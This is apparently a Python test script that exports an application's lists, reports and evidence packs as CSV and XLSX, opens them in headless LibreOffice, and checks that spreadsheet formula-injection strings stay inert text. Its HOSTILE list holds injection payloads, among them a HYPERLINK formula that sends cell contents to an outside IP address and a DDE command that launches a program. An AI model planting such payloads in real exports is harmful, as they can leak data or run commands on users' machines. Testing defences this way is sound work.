"""Opens every spreadsheet that a demonstration exports with LibreOffice, and compares it with JSON Lines.

Usage: scripts/demo PYTHON scripts/python/spreadsheets.py

Somebody files texts that a spreadsheet would compute. Then each list and report is taken as CSV, XLSX and JSON Lines,
and each evidence pack's table with it: all have the same rows, and LibreOffice finds no formula in any.
"""

import csv
import io
import json
import re
import subprocess
import sys
import tempfile
import xml.etree.ElementTree as xml
import zipfile
from pathlib import Path

from filing import PEOPLE, SIGNING, company, grant, on_record, request

DOCUMENT = Path(__file__).parents[2] / "openapi/openapi.json"
# What begins like a formula in some spreadsheet; the door takes white space off both ends.
HOSTILE = [
    '=HYPERLINK("http://192.0.2.1/?"&A1;"open")',
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "\t=1+2",
    "\r\n=1+3",
    '"=1+4"',
    "',=1+5",
]
FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n")
INSTANT = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?Z")
# Paths whose answers may be spreadsheets, each with who sees most of it. A new one has to be added here.
LISTS = {"/v1/exceptions": "gita", "/v1/tasks": "gita", "/v1/people": "adam", "/v1/events": "rita"}
SPREADSHEETS = {f"{path}.{{form}}" for path in LISTS} | {"/v1/exceptions", "/v1/reports/{report}", "/v1/data-flows"}
# What LibreOffice makes of yes and no in a workbook; `no_formulas` sees that nothing else stands there.
FLAGS = {"of:=TRUE()", "of:=FALSE()"}
OFFICE = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"
TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
# UTF-8 with commas, as LibreOffice writes and reads it: of every sheet, texts in quotation marks, values as shown.
# Reading says nothing of formulas, so that LibreOffice computes what looks like one.
READ = "CSV:44,34,76,1"
WRITE = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,true,true,false,false,false,-1"


class Office:
    """LibreOffice with a profile of its own."""

    def __init__(self, folder):
        self.folder = folder

    def convert(self, files, kind, *more):
        """The files in another form, by their stems."""
        out = Path(tempfile.mkdtemp(dir=self.folder))
        profile = f"-env:UserInstallation=file://{self.folder}/profile"
        command = ["soffice", profile, "--headless", *more, "--convert-to", kind, "--outdir", out, *files]
        subprocess.run(command, check=True, capture_output=True, timeout=300)
        found = {file.stem: next(out.glob(f"{file.stem}*"), None) for file in files}
        missing = sorted(stem for stem, file in found.items() if file is None)
        assert not missing, f"LibreOffice does not open {missing}"
        return found

    def rows(self, files, *more):
        return {stem: table(file.read_text("utf-8")) for stem, file in self.convert(files, WRITE, *more).items()}

    def cells(self, files, *more):
        """What every cell is: its formula or nothing, its type, and its text."""
        return {stem: list(cells(file)) for stem, file in self.convert(files, "fods", *more).items()}


def cells(file):
    for cell in xml.parse(file).iter(TABLE + "table-cell"):
        lines = ("".join(line.itertext()) for line in cell)
        yield cell.get(TABLE + "formula"), cell.get(OFFICE + "value-type"), "\n".join(lines)


def table(text):
    return list(csv.reader(io.StringIO(text, newline="")))


def exports():
    """Name, who asks, and the path up to its form, of everything that has forms."""
    paths = json.loads(DOCUMENT.read_text())["paths"]
    told = {path for path, verbs in paths.items() for verb in verbs.values() if "text/csv" in json.dumps(verb)}
    assert told == SPREADSHEETS, f"spreadsheets that are not tried here, or are no more: {told ^ SPREADSHEETS}"
    for path, who in LISTS.items():
        yield path.removeprefix("/v1/"), who, path + ".{}"
    [report] = [one for one in paths["/v1/reports/{report}"]["get"]["parameters"] if one["name"] == "report"]
    for name in re.match(r"\^\(([^)]*)\)", report["schema"]["pattern"])[1].split("|"):
        yield name, "gita", f"/v1/reports/{name}.{{}}?days=400" if name == "expiring" else f"/v1/reports/{name}.{{}}"
    yield "pairs", "oskar", "/v1/reports/approvers.{}?by=nothing"


def file_hostile(people):
    """Files every hostile text; the numbers, and the texts as the door took them."""
    filed = {}
    for text in HOSTILE:
        draft = people["rita"].post("/v1/exceptions", json=request(text))
        filed[draft["number"]] = draft["request"]["title"]
        grant(people, draft["number"])
        person = people["adam"].post("/v1/people", json={"name": text.strip(), "email": f"h{len(filed)}@example.com"})
        assert person["id"]
    assert set(filed.values()) == {text.strip() for text in HOSTILE}
    return filed


def taken(people, who, path):
    """The same moment in all three forms: what happens meanwhile is asked for again."""
    for _ in range(5):
        lines, commas, book, again = (people[who].file(path.format(form)) for form in ("jsonl", "csv", "xlsx", "jsonl"))
        if lines == again:
            return [json.loads(line) for line in lines.decode().splitlines()], commas, book
    raise SystemExit(f"{path} does not stand still")


def pack(number, folder):
    """The table of an evidence pack and its lines."""
    zipped = folder / "pack.zip"
    subprocess.run(on_record("pack", number, "--file", zipped), check=True, stdout=subprocess.DEVNULL, env=SIGNING)
    with zipfile.ZipFile(zipped) as file:
        return file.read("events.csv"), len(file.read("events.jsonl").splitlines())


def inert(text):
    """A text as CSV has it."""
    return f"'{text}" if text.startswith(FORMULA) else text


def held(name, rows, tables):
    """Does every table have these rows, and every text as it is there (`form` says how)?"""
    for medium, (found, form) in tables.items():
        heading, *body = found
        assert len(body) == len(rows), f"{name}: {len(rows)} rows as JSON Lines, {len(body)} as {medium}"
        for row, told in zip(body, rows):
            assert set(heading) == set(told) - {"hidden"}, f"{name}: {medium} has the columns {heading}"
            for column, shown in zip(heading, row):
                text = told[column]
                if isinstance(text, str) and not INSTANT.fullmatch(text):
                    assert shown == form(text), f"{name}, {column}: {text!r} is {shown!r} as {medium}"


def hostile(opened, filed):
    """How many hostile cells each table has: they are texts, and nowhere is there a formula."""
    told = {}
    for name, found in opened.items():
        formulas = [cell for cell in found if cell[0] and cell[0] not in FLAGS]
        assert not formulas, f"{name} has formulas: {formulas[:3]}"
        kinds = [kind for _, kind, text in found if text in filed]
        assert set(kinds) <= {"string"}, f"{name} takes a hostile text for a {kinds}"
        told[name] = len(kinds)
    return told


def no_formulas(book):
    """No cell of a workbook's own text is a formula (ISO/IEC 29500-1, 18.3.1.40)."""
    with zipfile.ZipFile(book) as file:
        sheets = [file.read(name) for name in file.namelist() if name.startswith("xl/worksheets/sheet")]
    assert sheets and not any(re.search(rb"<f[ />]", sheet) for sheet in sheets), f"{book.stem} has a formula"


def sees_formulas(office, folder):
    """LibreOffice computes what is not made inert, or else this would find nothing whatever there is."""
    control = folder / "control.csv"
    control.write_text('a,b\r\n=1+1,"=3+4"\r\n', "utf-8")
    book = office.convert([control], "xlsx", f"--infilter={READ}")["control"]
    try:
        no_formulas(book)
    except AssertionError:
        pass
    else:
        raise SystemExit("a formula in a workbook is not found")
    for found in (office.cells([control], f"--infilter={READ}"), office.cells([book])):
        assert [kind for formula, kind, _ in found["control"] if formula] == ["float", "float"], found


def written(people, folder):
    """Takes everything into files; the rows by name."""
    rows = {}
    for name, who, path in exports():
        rows[name], commas, book = taken(people, who, path)
        (folder / f"{name}.csv").write_bytes(commas)
        (folder / f"{name}.xlsx").write_bytes(book)
    return rows


def lone_tables(people, numbers, folder):
    """Those that have CSV alone, with how many rows they have to have."""
    register = people["gita"].file("/v1/exceptions.ciso-assistant.csv")
    flows = people["adam"].file("/v1/data-flows", "text/csv")
    counts = {
        "register": sum(one["state"] != "rejected" for one in people["gita"].pages("/v1/exceptions")),
        "flows": len(people["adam"].get("/v1/data-flows")["flows"]),
    }
    events, counts["pack"] = pack(numbers[0], folder)
    for name, content in {"register": register, "flows": flows, "pack": events}.items():
        (folder / f"{name}.csv").write_bytes(content)
    return counts


def compare(office, folder, rows, counts, filed):
    """Opens all of it and holds it against the rows; how many hostile cells are in each CSV, and in each workbook."""
    counts = dict(counts)
    read = f"--infilter={READ}"
    csvs, books = sorted(folder.glob("*.csv")), sorted(folder.glob("*.xlsx"))
    for book in books:
        no_formulas(book)
    from_csv, from_book = office.rows(csvs, read), office.rows(books)
    for name, told in rows.items():
        plain = table((folder / f"{name}.csv").read_text("utf-8"))
        held(name, told, {"CSV": (plain, inert), "XLSX in LibreOffice": (from_book[name], str)})
        # Of CSV, LibreOffice makes dates of texts such as 2026-03: rows are counted here, and types looked at below.
        counts[name] = len(told)
    for name, count in counts.items():
        assert len(from_csv[name]) == count + 1, f"{name}: {count} rows, {len(from_csv[name]) - 1} in LibreOffice"
    return hostile(office.cells(csvs, read), {inert(text) for text in filed}), hostile(office.cells(books), filed)


def main():
    people = company([*PEOPLE, "gita", "adam", "oskar"])
    with tempfile.TemporaryDirectory() as folder:
        folder = Path(folder)
        office = Office(folder)
        sees_formulas(office, folder)
        filed = file_hostile(people)
        kept = folder / "kept"
        kept.mkdir()
        rows = written(people, kept)
        counts = lone_tables(people, list(filed), kept)
        commas, typed = compare(office, kept, rows, counts, set(filed.values()))
    for name in ("exceptions", "expiring", "people"):
        assert commas[name] >= len(HOSTILE) <= typed[name], f"{name} lacks a hostile text"
    told = sum(map(len, rows.values())) + sum(counts.values())
    cells = sum(commas.values()) + sum(typed.values())
    print(f"{len(rows)} workbooks and {len(commas)} CSV files, {told} rows: opened; {cells} hostile cells are texts")


if __name__ == "__main__":
    sys.exit(main())
